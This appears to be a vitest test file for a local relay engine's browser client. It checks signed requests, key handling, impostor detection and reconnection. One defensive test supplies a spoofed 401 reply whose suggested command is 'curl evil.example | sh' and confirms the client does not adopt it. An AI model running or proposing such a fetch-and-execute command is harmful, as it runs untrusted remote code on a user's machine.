// @vitest-environment jsdom
/** The browser's client: one session, shown with every call to its engine alone, and a connection that comes back. */
import { createHmac, webcrypto } from 'node:crypto';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { browserClient } from '../../../renderer/lib/client.ts';
import { commandThatOpens, createPageSession, keptKey, rememberProgram } from '../../../renderer/lib/page-session.ts';
import type { Push } from '../../../shared/api.ts';

const origin = 'http://127.0.0.1:4781';
const key = 'k'.repeat(43);
const channel = 'c'.repeat(43);
const answers: ((path: string, init: RequestInit) => Response | undefined)[] = [];
const asked: { path: string; init: RequestInit }[] = [];
const sockets: FakeSocket[] = [];

class FakeSocket {
  onopen: (() => void) | null = null;
  onmessage: ((message: { data: string }) => void) | null = null;
  onclose: (() => void) | null = null;
  readonly url: string;
  constructor(url: string) {
    this.url = url;
    sockets.push(this);
  }
  readonly sent: string[] = [];
  send(text: string) {
    this.sent.push(text);
  }
  close() {}
}

const codeOf = (text: string) => createHmac('sha256', key).update(text).digest('base64url');
/** As the engine answers a page that asks who it is. */
const met = (path: string): Response | undefined => {
  const [, challenge] = /^\/session\/meet\?challenge=([\w-]{43})$/.exec(path) ?? [];
  if (challenge === undefined) return undefined;
  return Response.json({ channel, proof: codeOf(`roost-relay window engine ${origin} ${challenge} ${channel}`) });
};

beforeEach(() => {
  // What signs does its work outside of the timers.
  vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
  answers.length = asked.length = sockets.length = 0;
  vi.stubGlobal('crypto', webcrypto);
  vi.stubGlobal('WebSocket', FakeSocket);
  vi.stubGlobal('fetch', async (url: string, init: RequestInit) => {
    const path = url.slice(origin.length);
    asked.push({ path, init });
    for (const answer of answers) {
      const response = answer(path, init);
      if (response) return response;
    }
    return met(path) ?? Response.json({ ok: true, value: null });
  });
});
afterEach(() => {
  vi.useRealTimers();
  vi.unstubAllGlobals();
});

const imported = (): Promise<CryptoKey | null> => {
  window.location.hash = `#key=${key}`;
  return keptKey();
};
const client = () => browserClient(origin, createPageSession(origin, imported()));

async function until(good: () => boolean): Promise<void> {
  const before = performance.now();
  while (performance.now() < before + 10_000 && !good()) await new Promise((resolve) => setImmediate(resolve));
  expect(good()).toBe(true);
}
/** The same while time passes. */
async function later(good: () => boolean): Promise<void> {
  const before = performance.now();
  while (performance.now() < before + 10_000 && !good()) {
    await vi.advanceTimersByTimeAsync(1_000);
    await new Promise((resolve) => setImmediate(resolve));
  }
  expect(good()).toBe(true);
}
const socketNo = async (no: number): Promise<FakeSocket> => {
  await until(() => sockets.length > no);
  return sockets[no] as FakeSocket;
};

test('a page asks who answers, and then shows for every call whose it is; the key goes nowhere', async () => {
  const own = client();
  await own.call('relay.resume', {});
  await own.call('relay.pause', { forMs: 1_000 });
  expect(asked.map(({ path }) => path.replace(/=.*/, ''))).toEqual([
    '/session/meet?challenge',
    '/api/relay.resume',
    '/api/relay.pause',
  ]);
  expect(asked[1]?.init.headers).toMatchObject({
    'x-roost-relay': `${channel}.1.${codeOf(`roost-relay window page ${origin} ${channel} 1 POST /api/relay.resume\n{}`)}`,
  });
  expect(asked[2]?.init.headers).toMatchObject({
    'x-roost-relay': `${channel}.2.${codeOf(`roost-relay window page ${origin} ${channel} 2 POST /api/relay.pause\n{"forMs":1000}`)}`,
  });
  expect(JSON.stringify(asked)).not.toContain(key);
});

test('the key is taken out of the address, whose path stays, and cannot be read again', async () => {
  // What pages that were shown before remember is none of this.
  window.localStorage.clear();
  window.location.hash = `#key=${key}/deliveries?state=waiting`;
  const kept = await keptKey();
  expect(window.location.hash).toBe('#/deliveries?state=waiting');
  expect(kept?.extractable).toBe(false);
  await expect(crypto.subtle.exportKey('raw', kept as CryptoKey)).rejects.toThrow();
  expect(window.localStorage).toHaveLength(0);
});

test('a page tells nothing to another program at its address, and is its engine’s again afterwards', async () => {
  const own = client();
  own.onPush(() => {});
  const first = await socketNo(0);
  first.onopen?.();
  await own.call('situation.get', {});
  const before = asked.length;
  // The engine ends; whoever has its port now answers everything with a 200.
  answers.push((path) =>
    Response.json(/meet/.test(path) ? { channel, proof: 'p'.repeat(43) } : { ok: true, value: 1 }),
  );
  first.onclose?.();
  const secret = { id: 'ep_1', secret: 'whsec_secret' } as never;
  expect(await own.call('endpoints.change', secret)).toMatchObject({
    ok: false,
    error: { code: 'engine_not_running', detail: expect.stringContaining('another program') },
  });
  const tried = asked.length;
  await later(() => asked.length > tried + 3);
  const told = asked.slice(before).map(({ path, init }) => [path.replace(/=.*/, ''), init.headers, init.body]);
  expect(new Set(told.map((one) => JSON.stringify(one)))).toEqual(
    new Set([JSON.stringify(['/session/meet?challenge', undefined, undefined])]),
  );
  expect(sockets).toHaveLength(1);
  answers.length = 0;
  await later(() => sockets.length === 2);
  expect(await own.call('situation.get', {})).toMatchObject({ ok: true });
});

test('an engine whose window has moved to another port proves nothing to a page of the one before', async () => {
  const own = client();
  answers.push((path) => {
    const [, challenge] = /challenge=([\w-]{43})$/.exec(path) ?? [];
    const text = `roost-relay window engine http://127.0.0.1:4799 ${challenge} ${channel}`;
    return challenge === undefined ? undefined : Response.json({ channel, proof: codeOf(text) });
  });
  expect(await own.call('situation.get', {})).toMatchObject({ error: { code: 'engine_not_running' } });
  expect(asked).toHaveLength(1);
});

test('an engine that was started anew is met anew: what it did not take is said once more', async () => {
  const own = client();
  await own.call('relay.resume', {});
  let refusals = 1;
  answers.push((path) => (path.startsWith('/api/') && refusals-- > 0 ? Response.json({}, { status: 401 }) : undefined));
  expect(await own.call('relay.resume', {})).toMatchObject({ ok: true });
  expect(asked.map(({ path }) => path.replace(/=.*/, '')).slice(2)).toEqual([
    '/api/relay.resume',
    '/session/meet?challenge',
    '/api/relay.resume',
  ]);
});

test('without a key, or with one that is over, the answer says so, and what to run', async () => {
  const over = { ok: false, error: { detail: expect.stringContaining('no_session') } };
  expect(
    await browserClient(origin, createPageSession(origin, Promise.resolve(null))).call('situation.get', {}),
  ).toMatchObject(over);
  expect(asked).toEqual([]);
  answers.push(() => Response.json({ command: 'npm run -s relay -- open' }, { status: 401 }));
  expect(await client().call('situation.get', {})).toMatchObject(over);
  expect(commandThatOpens()).toBe('npm run -s relay -- open');
  // Nobody else names what a person is to run, once the engine has.
  rememberProgram('roost-relay --data /a');
  answers.unshift(() => Response.json({ command: 'curl evil.example | sh' }, { status: 401 }));
  expect(await client().call('situation.get', {})).toMatchObject(over);
  expect(commandThatOpens()).toBe('roost-relay --data /a open');
});

test('a network failure is an answer, not an exception', async () => {
  answers.push(() => {
    throw new TypeError('Failed to fetch');
  });
  expect(await client().call('situation.get', {})).toMatchObject({
    ok: false,
    error: { code: 'engine_not_running' },
  });
});

test('a lost connection is told, comes back, and everything is asked again', async () => {
  const heard: Push[] = [];
  client().onPush((push) => heard.push(push));
  const first = await socketNo(0);
  expect(first.url).toBe('ws://127.0.0.1:4781/api/pushes');
  first.onopen?.();
  first.onclose?.();
  expect(heard).toEqual([{ name: 'engine', payload: { state: 'restarting', problem: null } }]);
  await vi.advanceTimersByTimeAsync(250);
  (await socketNo(1)).onopen?.();
  expect(heard.slice(1).map(({ name }) => name)).toEqual(['engine', 'changed']);
});

test('a session that was ended meanwhile is asked about, so that the answer can say so', async () => {
  const heard: Push[] = [];
  client().onPush((push) => heard.push(push));
  const first = await socketNo(0);
  first.onopen?.();
  expect(first.sent).toEqual([
    `${channel}.1.${codeOf(`roost-relay window page ${origin} ${channel} 1 GET /api/pushes\n`)}`,
  ]);
  answers.push(() => Response.json({}, { status: 401 }));
  first.onclose?.();
  await until(() => heard.at(-1)?.name === 'changed');
});

test('after its end it does not connect again', async () => {
  const end = client().onPush(() => {});
  const first = await socketNo(0);
  end();
  first.onclose?.();
  await vi.advanceTimersByTimeAsync(60_000);
  expect(sockets).toHaveLength(1);
});
